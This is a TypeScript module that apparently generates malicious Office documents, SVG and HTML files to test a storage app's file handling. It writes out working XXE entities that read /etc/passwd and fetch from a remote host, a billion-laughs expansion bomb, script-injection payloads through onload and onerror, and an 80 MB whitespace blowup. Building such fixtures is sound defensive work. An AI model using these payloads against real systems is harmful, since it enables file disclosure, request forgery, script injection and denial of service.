import { createZip } from '../../../apps/box/src/storage/archives/malicious-archives.ts';
import type { MaliciousZipEntry } from '../../../apps/box/src/storage/archives/malicious-archives.ts';
import type { AdversarialFile, Payload } from './adversarial-files.ts';

export const HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';
export const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
export const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
export const P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';
export const PIC = 'http://schemas.openxmlformats.org/drawingml/2006/picture';
const WP = 'http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing';
export const NAMES = `xmlns:r="${OFFICE}" xmlns:a="${A}" xmlns:pic="${PIC}" xmlns:wp="${WP}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"`;

/** A relationship: id, kind, target. One that points out of the package is external. */
export type PackageRelation = readonly [id: string, kind: string, target: string, external?: boolean];
export type PackageParts = Readonly<Record<string, string | Uint8Array>>;
/** The files are numbered; `ends` is the suffix when it is not the default of their kind. */
export type UnnamedFile = Omit<AdversarialFile, 'name'> & { readonly ends?: string };

export const attribute = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');
export const escaped = (text: string): string => attribute(text).replaceAll('>', '&gt;');

export const relations = (list: readonly PackageRelation[]): string =>
  `${HEAD}<Relationships xmlns="${PACKAGE}/relationships">${list
    .map(
      ([id, kind, target, external]) =>
        `<Relationship Id="${id}" Type="${OFFICE}/${kind}" Target="${attribute(target)}"${external === true ? ' TargetMode="External"' : ''}/>`,
    )
    .join('')}</Relationships>`;

const TYPES: Readonly<Record<string, string>> = {
  'word/document.xml': 'wordprocessingml.document.main',
  'word/settings.xml': 'wordprocessingml.settings',
  'word/comments.xml': 'wordprocessingml.comments',
  'word/footnotes.xml': 'wordprocessingml.footnotes',
  'xl/workbook.xml': 'spreadsheetml.sheet.main',
  'xl/worksheets/sheet1.xml': 'spreadsheetml.worksheet',
  'xl/sharedStrings.xml': 'spreadsheetml.sharedStrings',
  'ppt/presentation.xml': 'presentationml.presentation.main',
  'ppt/slides/slide1.xml': 'presentationml.slide',
};

export const pack = (main: string, parts: PackageParts, more: readonly MaliciousZipEntry[] = []): Buffer => {
  const types = `${HEAD}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="html" ContentType="text/html"/>${Object.keys(
    parts,
  )
    .flatMap((name) => (TYPES[name] === undefined ? [] : [[name, TYPES[name]] as const]))
    .map(
      ([name, type]) =>
        `<Override PartName="/${name}" ContentType="application/vnd.openxmlformats-officedocument.${type}+xml"/>`,
    )
    .join('')}</Types>`;
  const all: PackageParts = {
    '[Content_Types].xml': types,
    '_rels/.rels': relations([['rId1', 'officeDocument', main]]),
    ...parts,
  };
  return createZip([
    ...Object.entries(all).map(([name, content]) => ({ name, content: Buffer.from(content) })),
    ...more,
  ]);
};

export const numbered = (kind: string, suffix: string, files: readonly UnnamedFile[]): readonly AdversarialFile[] =>
  files.map(({ ends = suffix, ...file }, at) => ({ ...file, name: `${kind} ${at + 1}.${ends}` }));

/** Entities that would read a file, fetch an address, or expand to gigabytes. */
export const external = (far: string): string =>
  `<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "${far}/xxe"><!ENTITY % dtd SYSTEM "${far}/dtd"> %dtd;]>`;
export const ENTITY_EXPANSION = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'
  .split('')
  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at] ?? 'a'};`.repeat(10)}">`)
  .join('')}]>`;

export const svg = ({ js, far }: Payload): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${js}"><script>${js}</script><image xlink:href="${far}/svg-image"/><use href="${far}/u.svg#a"/></svg>`;
export const html = ({ js, far }: Payload): string =>
  `<html><body onload="${js}"><script>${js}</script><img src="${far}/html" onerror="${js}"></body></html>`;

/** 80 MB of white space between two tags: 80 kB in a package. */
export const OVERSIZED_WHITESPACE = Buffer.alloc(80 * 1024 * 1024, 0x20);
